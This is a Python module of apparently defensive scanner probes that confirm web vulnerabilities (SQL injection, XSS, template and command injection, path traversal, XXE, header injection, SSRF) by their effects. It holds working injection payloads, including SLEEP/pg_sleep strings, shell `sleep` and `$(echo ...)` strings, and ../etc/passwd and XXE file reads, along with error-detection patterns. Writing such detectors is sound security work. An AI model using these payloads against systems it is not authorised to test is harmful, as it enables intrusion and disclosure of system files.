"""Attack probes: how one sees that an attack has worked, and not merely that it was let through.

Each probe asks a spot a few things and looks for what only a hole would answer: arithmetic that was done, an element in
the page that was sent as text, a line of a file, a header of one's own, a pair of conditions of which only the true one
is like the ordinary answer. What proves nothing is no evidence.
Must never change anything: probes read, count and wait for a second, and that is all.
"""

from __future__ import annotations

import re
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from time import perf_counter
from typing import Final, NamedTuple
from urllib.parse import urlsplit

MARK: Final = "agx7f3k"
"""What no application says by itself."""

_A, _B = 7919, 7907
_NOBODY: Final = "987654321"  # a number that names nothing
_PRODUCT: Final = str(_A * _B)
_PASSWD: Final = re.compile(r"^root:[^:\n]*:0:0:", re.MULTILINE)
_SQL_ERROR: Final = re.compile(
    r"sqlite3\.\w*Error|near \"[^\"]{0,80}\": syntax error|unrecognized token|SQL syntax|SQLSTATE|ORA-\d{5}|psycopg"
    r"|unterminated quoted string|syntax error at or near|pymysql|ODBC SQL Server|unclosed quotation mark",
    re.IGNORECASE,
)
_TRACE: Final = re.compile(r"Traceback \(most recent call last\)|^ {2}File \"[^\"\n]{1,300}\", line \d+", re.MULTILINE)
_LONGEST: Final = 1 << 20
_WAIT_SECONDS: Final = 1.0


class Answer(NamedTuple):
    """What came back.

    Attributes:
        status: of HTTP; 0 where nothing came back.
        headers: by name, in lower case.
        text: the body, at most 1 MiB of it.
        seconds: how long it took.
        error: what was raised, where nothing came back.
    """

    status: int
    headers: dict[str, str]
    text: str
    seconds: float = 0.0
    error: str = ""


class Evidence(NamedTuple):
    """A hole, and what shows it.

    Attributes:
        attack: its class.
        payload: what was sent.
        said: what shows it, in a sentence.
    """

    attack: str
    payload: str
    said: str


Ask = Callable[[str], Awaitable[Answer]]
"""Puts a text into a spot, and returns what came back."""


@dataclass(frozen=True, slots=True)
class Context:
    """What a probe knows.

    Attributes:
        ask: puts a text into the spot.
        value: an ordinary value of the spot.
        ordinary: what is answered to that.
        listener: the address of a listener of this machine, and whether it was asked; None where there is none.
    """

    ask: Ask
    value: str
    ordinary: Answer
    listener: Listener | None = None


class Listener(NamedTuple):
    """Somebody who is asked where an application fetches what a client names.

    Attributes:
        url: where it is.
        was_asked: whether it was, since the last time.
    """

    url: str
    was_asked: Callable[[], bool]


async def by_condition(context: Context) -> Evidence | None:
    """SQL: of two conditions, only the true one is answered like the ordinary value, again and again."""
    value = context.value
    pairs = (
        (f"{value}' AND '1'='1", f"{value}' AND '1'='2"),
        (f"{value} AND 1=1", f"{value} AND 1=2"),
        (f'{value}" AND "1"="1', f'{value}" AND "1"="2'),
        (f"{value}') AND ('1'='1", f"{value}') AND ('1'='2"),
        (f"{MARK}' OR '1'='1", f"{MARK}' OR '1'='2"),
        ("-1 OR 1=1", "-1 OR 1=2"),
    )
    nothing = [_shape(await context.ask(text), text) for text in (MARK, _NOBODY)]
    for true, false in pairs:
        answers = [await context.ask(text) for text in (true, false, true, false)]
        told = [_shape(answer, text) for answer, text in zip(answers, (true, false, true, false), strict=True)]
        is_steady = told[0] == told[2] != told[1] == told[3]
        is_well = answers[0].status == context.ordinary.status and answers[1].status < 500
        # What is true finds something, and what is false finds as little as a value that nobody has.
        if is_steady and is_well and told[1] in nothing and answers[0].status < 400:
            return Evidence(
                "sqli", true, f"answered otherwise than {false!r}, which is answered as if nothing was found"
            )
    return None


async def by_quote(context: Context) -> Evidence | None:
    """SQL: one quote breaks it and two do not; or the database's own words come back."""
    for quote in ("'", '"'):
        odd, even = await context.ask(context.value + quote), await context.ask(context.value + quote * 2)
        said = _SQL_ERROR.search(odd.text) or _SQL_ERROR.search(odd.error)
        if said is not None and not _SQL_ERROR.search(context.ordinary.text):
            return Evidence("sqli", context.value + quote, f"the database says {said[0]!r}")
        if _is_broken(odd) and not _is_broken(even) and not _is_broken(context.ordinary):
            again = await context.ask(context.value + quote)
            if _is_broken(again):
                return Evidence("sqli", context.value + quote, "one quote fails, and two do not")
    return None


async def by_waiting(context: Context) -> Evidence | None:
    """SQL and commands: it takes as long as it was told to, and no longer when told not to wait."""
    value, wait = context.value, _WAIT_SECONDS
    for attack, slow, quick in (
        ("sqli", f"{value}' AND SLEEP({wait})-- ", f"{value}' AND SLEEP(0)-- "),
        ("sqli", f"{value}'; SELECT pg_sleep({wait})-- ", f"{value}'; SELECT pg_sleep(0)-- "),
        ("command", f"{value}; sleep {wait}", f"{value}; sleep 0"),
        ("command", f"$(sleep {wait})", "$(sleep 0)"),
    ):
        if (await context.ask(slow)).seconds < wait:
            continue
        if (await context.ask(quick)).seconds < wait / 2 and (await context.ask(slow)).seconds >= wait:
            return Evidence(attack, slow, f"it waits for {wait:g} s, twice, and not when it is told 0")
    return None


async def by_markup(context: Context) -> Evidence | None:
    """XSS: what was sent as text is an element, or an attribute, of a page."""
    for text in (
        f"<{MARK} id=1>",
        f'"><{MARK} id=1>',
        f"'><{MARK} id=1>",
        f"</script><{MARK} id=1>",
        f'" {MARK}=1 x="',
    ):
        answer = await context.ask(text)
        if "html" in answer.headers.get("content-type", "") and MARK in answer.text:
            tags = _Tags()
            tags.feed(answer.text)
            if tags.found:
                return Evidence("xss", text, f"it stands in the page as {tags.found}")
    return None


class _Tags(HTMLParser):
    """Looks for an element or an attribute of one's own."""

    found: str = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Look at one."""
        if tag == MARK:
            self.found = "an element"
        elif any(name == MARK for name, _ in attrs):
            self.found = "an attribute"


async def by_arithmetic(context: Context) -> Evidence | None:
    """Templates, commands and code: what was sent is computed."""
    for attack, text in (
        ("template", f"{{{{{_A}*{_B}}}}}"),
        ("template", f"${{{_A}*{_B}}}"),
        ("template", f"#{{{_A}*{_B}}}"),
        ("template", f"<%= {_A}*{_B} %>"),
        ("command", f"; echo $(({_A}*{_B}))"),
        ("command", f"| echo $(({_A}*{_B}))"),
        ("command", f"$(echo $(({_A}*{_B})))"),
        ("command", f"`expr {_A} \\* {_B}`"),
        ("code", f"{_A}*{_B}"),
        ("code", f"str({_A}*{_B})"),
    ):
        answer = await context.ask(text)
        if _PRODUCT in answer.text and _PRODUCT not in context.ordinary.text:
            return Evidence(attack, text, f"it was computed: {_PRODUCT}")
    return None


async def by_file(context: Context) -> Evidence | None:
    """Traversal, inclusion and XXE: a line of a file that every Unix has."""
    up = "../" * 8
    for text in (
        f"{up}etc/passwd",
        "/etc/passwd",
        f"{up}etc/passwd".replace("/", "%2f"),
        ("..../" + "/") * 8 + "etc/passwd",
        "file:///etc/passwd",
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    ):
        answer = await context.ask(text)
        if _PASSWD.search(answer.text):
            attack = "xxe" if "ENTITY" in text else "traversal"
            return Evidence(attack, text, "lines of /etc/passwd came back")
    return None


async def by_header(context: Context) -> Evidence | None:
    """Header injection, and redirects to anywhere."""
    for text in (f"x\r\nx-{MARK}: 1", f"x\nx-{MARK}: 1"):
        answer = await context.ask(text)
        # A strict server refuses what lets one in: "the value of b'x-lang' holds CR, LF or NUL".
        if f"x-{MARK}" in answer.headers or "CR, LF or NUL" in answer.error:
            return Evidence("header", text, "a line break reaches a header of the answer")
    for text in (f"https://{MARK}.example/", f"//{MARK}.example/"):
        answer = await context.ask(text)
        if 300 <= answer.status < 400 and urlsplit(answer.headers.get("location", "")).hostname == f"{MARK}.example":
            return Evidence("redirect", text, "it redirects there")
    return None


async def by_fetching(context: Context) -> Evidence | None:
    """SSRF: somebody on this machine is asked."""
    if context.listener is None:
        return None
    await context.ask(context.listener.url)
    return Evidence("ssrf", context.listener.url, "that address was asked") if context.listener.was_asked() else None


PROBES: Final = (
    by_quote,
    by_condition,
    by_markup,
    by_arithmetic,
    by_file,
    by_header,
    by_fetching,
    by_waiting,
)
"""All of them; each needs at most 26 requests."""


def leaks(answer: Answer) -> str | None:
    """Say what of the inside an answer shows; None where that is nothing."""
    if _TRACE.search(answer.text):
        return "a traceback is shown"
    found = _SQL_ERROR.search(answer.text) if answer.status >= 500 else None
    return None if found is None else f"the database's own words are shown: {found[0]!r}"


def _is_broken(answer: Answer) -> bool:
    return answer.status >= 500 or answer.status == 0


def _shape(answer: Answer, sent: str) -> tuple[int, str]:
    """Return what is compared: an answer without what was sent, and without what changes from time to time."""
    text = answer.text.replace(sent, "").replace(sent.replace("'", "&#x27;").replace('"', "&quot;"), "")
    return answer.status, re.sub(r"[0-9a-f]{16,}|\d+", "#", text)


def timed(answer: Answer, began: float) -> Answer:
    """Note how long an answer took."""
    return answer._replace(seconds=perf_counter() - began, text=answer.text[:_LONGEST])


def names() -> Iterator[str]:
    """Give out the names of the probes."""
    return (probe.__name__ for probe in PROBES)
